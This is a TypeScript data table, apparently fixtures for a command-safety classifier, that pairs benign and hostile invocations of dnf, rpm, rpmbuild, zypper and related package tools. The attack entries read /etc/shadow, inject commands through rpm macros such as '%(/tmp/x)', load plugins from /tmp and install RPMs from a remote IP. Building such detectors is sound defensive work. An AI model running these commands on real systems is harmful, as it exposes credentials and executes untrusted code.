import type { ExampleTable } from './example.ts'

export const redHatPackages: ExampleTable = {
  createrepo: {
    use: 'createrepo -o out repo → unpack out',
    attack: [
      'createrepo -o /etc/cron.d repo → unpack /etc/cron.d',
      'createrepo -g /etc/shadow repo → read /etc/shadow',
    ],
  },
  dnf: {
    unclear: [
      `dnf config-manager --add-repo http://example.org/x.repo → where packages come from from now on`,
      `dnf versionlock add openssl → which holes are not mended from then on`,
    ],
    use: 'dnf -c dnf.conf list → read dnf.conf',
    attack: [
      'dnf -c /tmp/dnf.conf list → run /tmp/dnf.conf',
      'dnf --setopt=pluginpath=/tmp/lib list → load /tmp/lib',
    ],
  },
  'dnf autoremove': {
    use: 'dnf autoremove → nothing',
    attack: 'dnf autoremove --setopt=pluginpath=/tmp/lib → load /tmp/lib',
  },
  'dnf builddep': {
    use: 'dnf builddep app.spec → install dnf builddep',
    attack: 'dnf builddep app.spec -c /tmp/dnf.conf → run /tmp/dnf.conf; install dnf builddep',
  },
  'dnf check-update': {
    use: 'dnf check-update → nothing',
    attack: 'dnf check-update -c /tmp/dnf.conf → run /tmp/dnf.conf',
  },
  'dnf clean': {
    use: 'dnf clean all → nothing',
    attack: 'dnf clean all -c /tmp/dnf.conf → run /tmp/dnf.conf',
  },
  'dnf config-manager': {
    use: 'dnf config-manager --add-repo https://example.org/x.repo → fetch https://example.org/x.repo',
    attack: 'dnf config-manager -c /tmp/dnf.conf --set-enabled crb → run /tmp/dnf.conf',
  },
  'dnf copr': {
    use: 'dnf copr enable ann/tools → nothing',
    attack: 'dnf copr enable ann/tools -c /tmp/dnf.conf → run /tmp/dnf.conf',
  },
  'dnf distro-sync': {
    use: 'dnf distro-sync → install dnf distro-sync',
    attack: 'dnf distro-sync -c /tmp/dnf.conf → run /tmp/dnf.conf; install dnf distro-sync',
  },
  'dnf download': {
    use: 'dnf download vim → fetch dnf download',
    attack: 'dnf download vim -c /tmp/dnf.conf → run /tmp/dnf.conf; fetch dnf download',
  },
  'dnf erase': {
    use: 'dnf erase nano → nothing',
    attack: 'dnf erase nano -c /tmp/dnf.conf → run /tmp/dnf.conf',
  },
  'dnf group': {
    use: 'dnf group list → nothing',
    attack: 'dnf group list -c /tmp/dnf.conf → run /tmp/dnf.conf',
  },
  'dnf groupinstall': {
    use: `dnf groupinstall 'Development Tools' → install dnf groupinstall`,
    attack: `dnf groupinstall 'Development Tools' -c /tmp/dnf.conf → run /tmp/dnf.conf; install dnf groupinstall`,
  },
  'dnf history': {
    use: 'dnf history → nothing',
    attack: 'dnf history -c /tmp/dnf.conf → run /tmp/dnf.conf',
  },
  'dnf info': {
    use: 'dnf info vim → nothing',
    attack: 'dnf info vim -c /tmp/dnf.conf → run /tmp/dnf.conf',
  },
  'dnf install': {
    use: 'dnf install vim → install dnf install',
    attack: [
      'dnf install http://203.0.113.7/x.rpm → execute ‹http://203.0.113.7/x.rpm›; install dnf install',
      'dnf install vim -c /tmp/dnf.conf → run /tmp/dnf.conf; install dnf install',
    ],
  },
  'dnf list': {
    use: 'dnf list → nothing',
    attack: 'dnf list -c /tmp/dnf.conf → run /tmp/dnf.conf',
  },
  'dnf localinstall': {
    use: 'dnf localinstall app.rpm → install dnf localinstall',
    attack:
      'dnf localinstall http://203.0.113.7/x.rpm → execute ‹http://203.0.113.7/x.rpm›; install dnf localinstall',
  },
  'dnf makecache': {
    use: 'dnf makecache → nothing',
    attack: 'dnf makecache -c /tmp/dnf.conf → run /tmp/dnf.conf',
  },
  'dnf module': {
    use: 'dnf module list → nothing',
    attack: 'dnf module list -c /tmp/dnf.conf → run /tmp/dnf.conf',
  },
  'dnf provides': {
    use: 'dnf provides /usr/bin/vim → nothing',
    attack: 'dnf provides /usr/bin/vim -c /tmp/dnf.conf → run /tmp/dnf.conf',
  },
  'dnf reinstall': {
    use: 'dnf reinstall vim → install dnf reinstall',
    attack: 'dnf reinstall vim -c /tmp/dnf.conf → run /tmp/dnf.conf; install dnf reinstall',
  },
  'dnf remove': {
    use: 'dnf remove nano → nothing',
    attack: 'dnf remove nano -c /tmp/dnf.conf → run /tmp/dnf.conf',
  },
  'dnf repolist': {
    use: 'dnf repolist → nothing',
    attack: 'dnf repolist -c /tmp/dnf.conf → run /tmp/dnf.conf',
  },
  'dnf repoquery': {
    use: 'dnf repoquery --whatrequires vim → nothing',
    attack: 'dnf repoquery -c /tmp/dnf.conf vim → run /tmp/dnf.conf',
  },
  'dnf search': {
    use: 'dnf search vim → nothing',
    attack: 'dnf search vim -c /tmp/dnf.conf → run /tmp/dnf.conf',
  },
  'dnf shell': {
    use: 'dnf shell commands.txt → read commands.txt',
    attack: 'dnf shell /etc/shadow → read /etc/shadow',
  },
  'dnf swap': {
    use: 'dnf swap nano vim → install dnf swap',
    attack: 'dnf swap nano vim -c /tmp/dnf.conf → run /tmp/dnf.conf; install dnf swap',
  },
  'dnf update': {
    use: 'dnf update vim → install dnf update',
    attack: 'dnf update vim -c /tmp/dnf.conf → run /tmp/dnf.conf; install dnf update',
  },
  'dnf upgrade': {
    use: 'dnf upgrade vim → install dnf upgrade',
    attack: 'dnf upgrade vim -c /tmp/dnf.conf → run /tmp/dnf.conf; install dnf upgrade',
  },
  mock: {
    use: `mock -r fedora-40-x86_64 --chroot 'cat notes.txt' → read notes.txt`,
    attack: ['mock -r fedora-40-x86_64 --shell → shell mock', 'mock --chroot=/bin/sh → shell sh'],
  },
  repoquery: {
    use: 'repoquery --installed vim → nothing',
    attack: 'repoquery -c /tmp/dnf.conf vim → run /tmp/dnf.conf',
  },
  reposync: {
    use: 'reposync --repoid=baseos → fetch reposync',
    attack: 'reposync -c /tmp/dnf.conf → run /tmp/dnf.conf; fetch reposync',
  },
  rpm: {
    unclear: [
      `rpm --import http://example.org/k → whose package it is`,
      `rpm -i http://example.org/x.rpm → whose package it is`,
    ],
    use: 'rpm -i app.rpm → install rpm; read app.rpm',
    attack: [`rpm -E '%(/tmp/x)' → run /tmp/x`, 'rpm -qa --pipe=/tmp/x → run /tmp/x'],
  },
  rpm2archive: { use: 'rpm2archive app.rpm → read app.rpm' },
  rpm2cpio: { use: 'rpm2cpio app.rpm → read app.rpm' },
  rpmbuild: {
    use: 'rpmbuild -bb app.spec → read app.spec',
    attack: [
      'rpmbuild -bb /etc/shadow → read /etc/shadow',
      `rpmbuild -bb app.spec -D 'x %(/tmp/x)' → run /tmp/x; read app.spec`,
    ],
  },
  rpmdb: { use: 'rpmdb --rebuilddb → nothing', attack: `rpmdb -E '%(/tmp/x)' → run /tmp/x` },
  rpmkeys: {
    use: 'rpmkeys --import key.asc → read key.asc',
    attack: `rpmkeys -E '%(/tmp/x)' → run /tmp/x`,
  },
  rpmquery: {
    use: 'rpmquery -a → nothing',
    attack: [`rpmquery -E '%(/tmp/x)' → run /tmp/x`, 'rpmquery -a --pipe=/tmp/x → run /tmp/x'],
  },
  rpmsign: {
    use: 'rpmsign --addsign app.rpm → read app.rpm',
    attack: [
      `rpmsign --define '__gpg /tmp/x' --addsign app.rpm → run /tmp/x; read app.rpm`,
      `rpmsign -E '%(/tmp/x)' → run /tmp/x`,
    ],
  },
  rpmspec: {
    use: 'rpmspec -P app.spec → read app.spec',
    attack: [
      'rpmspec -P /etc/shadow → read /etc/shadow',
      `rpmspec -P app.spec -D 'x %(/tmp/x)' → run /tmp/x; read app.spec`,
    ],
  },
  rpmverify: { use: 'rpmverify vim → nothing', attack: `rpmverify -E '%(/tmp/x)' → run /tmp/x` },
  spectool: {
    use: 'spectool -g app.spec → read app.spec',
    attack: 'spectool /etc/shadow → read /etc/shadow',
  },
  urpmi: {
    use: 'urpmi vim → install urpmi',
    attack: 'urpmi http://203.0.113.7/x.rpm → execute ‹http://203.0.113.7/x.rpm›; install urpmi',
  },
  'yum-config-manager': {
    use: 'yum-config-manager --add-repo https://example.org/x.repo → fetch https://example.org/x.repo',
    attack: 'yum-config-manager -c /tmp/yum.conf --enable crb → run /tmp/yum.conf',
  },
  yumdownloader: {
    use: 'yumdownloader vim → fetch yumdownloader',
    attack: 'yumdownloader -c /tmp/yum.conf vim → run /tmp/yum.conf; fetch yumdownloader',
  },
  zypper: {
    unclear: [`zypper addlock openssl → which holes are not mended from then on`],
    use: 'zypper -c zypper.conf refresh → read zypper.conf',
  },
  'zypper addrepo': {
    use: [
      'zypper addrepo https://example.org/tools tools → fetch https://example.org/tools',
      'zypper addrepo -r tools.repo → read tools.repo',
    ],
  },
  'zypper dist-upgrade': { use: 'zypper dist-upgrade → install zypper dist-upgrade' },
  'zypper install': {
    use: 'zypper install vim → install zypper install',
    attack:
      'zypper install http://203.0.113.7/x.rpm → execute ‹http://203.0.113.7/x.rpm›; install zypper install',
  },
  'zypper update': { use: 'zypper update vim → install zypper update' },
}
